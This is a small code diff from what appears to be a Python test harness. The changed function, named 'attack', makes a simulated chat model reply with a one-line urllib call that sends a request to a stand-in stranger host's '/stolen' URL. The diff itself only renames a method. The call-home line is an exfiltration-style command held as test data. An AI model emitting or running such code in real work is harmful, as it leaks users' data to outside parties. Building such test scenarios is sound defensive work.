@@ -81,7 +81,7 @@ def _value(node: ast.expr) -> float:
 def attack(scene: Scene) -> None:
     """Let the model answer with code that calls home."""
     code = f"__import__('urllib.request').request.urlopen('{scene.stranger.urls['us']}/stolen')"
-    scene.mistral.chat.script(answers.reply(code))
+    scene.mistral.chat.respond(answers.reply(code))
 
 
 PAIRS = (
